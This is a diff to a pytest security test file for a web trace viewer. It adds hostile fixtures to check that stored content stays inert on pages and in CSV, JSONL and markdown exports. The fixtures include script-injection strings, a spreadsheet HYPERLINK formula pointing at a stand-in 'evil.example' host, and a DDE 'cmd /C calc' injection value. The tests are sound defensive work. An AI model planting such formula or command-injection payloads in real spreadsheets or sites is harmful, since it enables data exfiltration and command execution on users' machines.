@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
 import pytest
+from markdown_it import MarkdownIt
 
 from tests.extensions.web.conftest import segment, span
 from tests.extensions.web.pages.browsing import Browser, Page
@@ -21,6 +24,7 @@ MARKDOWN = (
     "```html\n<script>alert(1)</script>\n```\n\n" + ">" * 500 + " deep\n\n" + "*" * 3000
 )
 SVG = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
+FORMULA = '=HYPERLINK("https://evil.example"&A1)'
 ID = "</a><script>alert(1)</script>/../?x=1#y&\"'%00\u202e"
 HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 _TAGS = {"script", "iframe", "object", "embed", "base", "style", "img", "video", "audio", "frame", "applet", "math"}
@@ -48,6 +52,7 @@ def _store(browser: Browser) -> None:
         "gen_ai.output.messages": said,
         "gen_ai.usage.input_tokens": 10,
         "input.value": EVIL,
+        "metadata": json.dumps({EVIL: EVIL, "evil": FORMULA}),
         EVIL: EVIL,
     }
     tool = {
@@ -59,6 +64,15 @@ def _store(browser: Browser) -> None:
     browser.api.store(
         span(ID, 1, seconds=3, name=EVIL, attributes=everywhere, status="error", message=EVIL),
         span(ID, 1, number=2, name=EVIL, attributes=tool, status="error", message=EVIL),
+        span(
+            ID,
+            3,
+            start=60,
+            name=FORMULA,
+            status="error",
+            message="@SUM(1)",
+            attributes={"user.id": "+1+cmd|' /C calc'!A0"},
+        ),
         span(ID, 2, start=90, attributes={"input.value": "x" * 1_200_000, "output.value": "[" * 100_000}),
         resource={"service.name": EVIL, "deployment.environment.name": EVIL},
     )
@@ -67,6 +81,8 @@ def _store(browser: Browser) -> None:
     score = {"name": EVIL, "data_type": "TEXT", "value": EVIL, "comment": EVIL}
     assert browser.api.call("POST", f"{path}/scores", score).status == 201
     assert browser.api.call("PUT", f"{path}/labels/{segment('<script>label')}").status in (200, 201, 204)
+    config = {"data_type": "CATEGORICAL", "description": EVIL, "categories": [{"value": 1, "label": EVIL}]}
+    assert browser.api.call("PUT", f"/score-configs/{segment('<script>score')}", config).status in (200, 201)
     assert browser.api.call("PUT", f"/views/{segment('<script>view')}", {"query": "has:error"}).status in (
         200,
         201,
@@ -101,6 +117,8 @@ def test_stored_content_is_inert_on_every_page(hostile: Browser) -> None:
         *("/sessions", "/sessions?facets=1", "/users", f"/users/{segment(EVIL)}", "/models?window=all"),
         *("/errors?window=all", "/unassigned?window=all", "/shares", "/status", "/connect"),
         *(session, f"{session}?show=calls", f"{session}?show=tools", f"{session}?fragment=turns"),
+        *(f"{session}?show=outline", f"{session}?show=waterfall", f"{session}?fragment=charts", f"{session}?at=error"),
+        f"{session}?queue=has:error&as={segment(EVIL)}",
         *(opened, f"{opened}&fragment=span", f"{session}/span?span={1:032x}.{1001:016x}"),
         f"/compare?a={segment(ID)}&b={segment(ID)}",
         "/compare?query_a=has:error&query_b=-has:error",
@@ -111,6 +129,38 @@ def test_stored_content_is_inert_on_every_page(hostile: Browser) -> None:
         assert page.status == 200, (path, page.text[-300:])
         _check_inert(page, path)
         assert len(page.html) < 3_000_000, path
+
+
+def test_the_text_of_a_span_is_plain_and_no_page(hostile: Browser) -> None:
+    made = hostile.api.call("POST", f"/sessions/{segment(ID)}/share", {})
+    for path in (f"/sessions/{segment(ID)}", f"/share/{made.json['token']}"):
+        page = hostile.get(f"{path}?span={1:032x}.{1001:016x}&fragment=text")
+        assert page.status == 200
+        assert page.headers["content-type"] == "text/plain; charset=utf-8"
+        assert page.headers["x-content-type-options"] == "nosniff"
+        assert "<script>alert(1)</script>" in page.html
+        assert not HIDDEN.search(page.html)
+
+
+def test_stored_content_is_inert_in_every_export(hostile: Browser) -> None:
+    def export(format_: str) -> str:
+        answer = hostile.api.call("GET", f"/sessions/{segment(ID)}/export", format=format_)
+        assert answer.status == 200
+        assert answer.headers["content-disposition"].startswith("attachment;")
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        return answer.body.decode()
+
+    csv.field_size_limit(10_000_000)
+    rows = list(csv.DictReader(io.StringIO(export("csv"))))
+    cells = [cell for row in rows for cell in row.values() if not re.fullmatch(r"-?[\d.]+", cell)]
+    assert [cell[:40] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert {f"'{FORMULA}"} <= {row["SpanName"] for row in rows}
+    for format_ in ("jsonl", "messages"):
+        assert all(isinstance(json.loads(line), dict) for line in export(format_).splitlines())
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(export("md"))
+    inner = [child for token in tokens for child in token.children or ()]
+    assert {token.type for token in (*tokens, *inner)} & {"html_block", "html_inline", "link_open", "image"} == set()
+    assert not any(HIDDEN.search(token.content) for token in tokens if token.type == "inline")
 
 
 def test_stored_content_is_inert_on_a_published_page(hostile: Browser) -> None:
